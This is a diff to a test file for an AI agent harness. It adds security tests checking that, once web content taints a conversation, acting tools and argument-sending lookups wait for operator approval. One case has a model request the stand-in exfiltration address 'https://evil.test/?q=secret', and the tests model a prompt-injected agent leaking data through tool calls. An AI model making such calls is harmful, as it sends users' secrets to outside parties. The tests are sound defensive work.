@@ -27,6 +27,8 @@ function tools() {
   const all = {
     fetch: make('fetch', { effect: 'read', origin: 'web' }),
     look: make('look', { effect: 'read' }),
+    browse: make('browse', { effect: 'read', origin: 'web', sends: 'address' }),
+    lookup: make('lookup', { effect: 'read', origin: 'api.shop.test', sends: 'arguments' }),
     pay: make('pay', { effect: 'once' }),
     put: make('put', { effect: 'idempotent', origin: 'api.shop.test' }),
     orders: make('orders', { effect: 'read', origin: 'api.shop.test' }),
@@ -40,7 +42,9 @@ test('SEC10: after content from outside, a tool that acts waits for approval and
   await using run = await executeScripted(rounds('fetch', 'pay'), { tools: all })
 
   expect(run.end.kind).toBe('parked')
-  expect(run.end.events.at(-1)).toMatchObject({ pending: [{ kind: 'approval', name: 'pay', arguments: {} }] })
+  const pending = [{ kind: 'approval', name: 'pay', arguments: {}, approver: 'operator' }]
+  expect(run.end.events.at(-1)).toMatchObject({ pending })
+  expect(run.log.of('approval.requested')[0]?.approver).toBe('operator')
   expect(effects).toEqual([])
 })
 
@@ -132,3 +136,92 @@ test('SEC10: a model that obeys whatever it reads has no unapproved effect in an
     { seed, numRuns: 300 },
   )
 }, 120_000)
+
+test('SEC10: whose words a conversation holds is stored before they come in, and counts when nothing else tells of it', async () => {
+  const { all, fetch, effects } = tools()
+  const stored: string[] = []
+  const order: string[] = []
+  const watched = { ...fetch, run: (...given: Parameters<Tool['run']>) => (order.push('read'), fetch.run(...given)) }
+  await using first = await executeScripted(rounds('fetch', 'fetch', 'look'), {
+    tools: [watched, ...all],
+    storeTaint: async (origin) => void (stored.push(origin), order.push('stored')),
+  })
+  expect(first.end.kind).toBe('completed')
+  expect(stored).toEqual(['web'])
+  expect(order).toEqual(['stored', 'read', 'read'])
+
+  await using later = await executeScripted(rounds('pay'), {
+    setup: sampleSetup({ tainted_by: stored }),
+    tools: all,
+  })
+  expect(later.end.kind).toBe('parked')
+  expect(effects).toEqual([])
+})
+
+const asks = (name: string, args: object): Piece => ({ call: { name, arguments: JSON.stringify(args) } })
+const asking = (name: string, args: object) => [
+  [asks(name, args), { finish: 'tool_calls' }],
+  [{ text: 'Done.' }, { finish: 'stop' }],
+]
+
+test('SEC10: a request that only reads sends its arguments, so in a tainted conversation it needs approval too', async () => {
+  const { all } = tools()
+  const setup = sampleSetup({ tainted_by: ['web'] })
+  await using sends = await executeScripted(asking('lookup', { q: 'the secret' }), { setup, tools: all })
+  expect(sends.end.events.at(-1)).toMatchObject({ pending: [{ name: 'lookup', approver: 'operator' }] })
+
+  await using bare = await executeScripted(asking('lookup', {}), { setup, tools: all })
+  expect(bare.end.kind).toBe('completed')
+
+  const own = sampleSetup({ tainted_by: ['api.shop.test'] })
+  await using same = await executeScripted(asking('lookup', { q: 'x' }), { setup: own, tools: all })
+  expect(same.end.kind).toBe('completed')
+})
+
+test.each([
+  ['made up by the model', 'https://evil.test/?q=secret', 'parked'],
+  ['the beginning of one that was given', 'https://shop.test/a', 'parked'],
+  ['given by the user', 'https://shop.test/a?b=1', 'completed'],
+  ['a link of a page that was read', 'https://docs.test/next', 'completed'],
+])('SEC10: in a tainted conversation an address %s is asked for: %s is %s', async (_what, url, end) => {
+  const { all, fetch } = tools()
+  const page = { ...fetch, run: async () => ({ ok: true as const, result: 'See (https://docs.test/next).' }) }
+  const setup = sampleSetup({ history: [{ role: 'user', content: 'Read https://shop.test/a?b=1, please.' }] })
+  await using run = await executeScripted(
+    [[asks('fetch', {}), { finish: 'tool_calls' }], ...asking('browse', { url })],
+    {
+      setup,
+      tools: [page, ...all.filter(({ name }) => name !== 'fetch')],
+    },
+  )
+  expect(run.end.kind).toBe(end)
+})
+
+test('SEC10: without foreign words any address may be asked for', async () => {
+  const { all } = tools()
+  await using run = await executeScripted(asking('browse', { url: 'https://any.test/' }), { tools: all })
+  expect(run.end.kind).toBe('completed')
+})
+
+test.each([
+  ['once', 'parked'],
+  ['idempotent', 'completed'],
+  ['read', 'completed'],
+] as const)('a call read out of the text, of a tool whose effect is %s: the run is %s', async (effect, end) => {
+  const ran: unknown[] = []
+  const tool = sampleTool('act', (args) => (ran.push(args), { ok: true, result: 'done' }), { effect })
+  const text = '<tool_call>{"name": "act", "arguments": {"order": 7}}</tool_call>'
+  const script = [
+    [{ text }, { finish: 'stop' }],
+    [{ text: 'Done.' }, { finish: 'stop' }],
+  ]
+  await using run = await executeScripted(script, { tools: [tool] })
+
+  expect(run.end.kind).toBe(end)
+  expect(run.log.of('model.completed')[0]?.calls).toMatchObject([{ name: 'act', recovered: true }])
+  if (end === 'completed') return expect(ran).toEqual([{ order: 7 }])
+  expect(ran).toEqual([])
+  expect(run.end.events.at(-1)).toMatchObject({
+    pending: [{ kind: 'approval', name: 'act', arguments: { order: 7 }, approver: 'operator' }],
+  })
+})
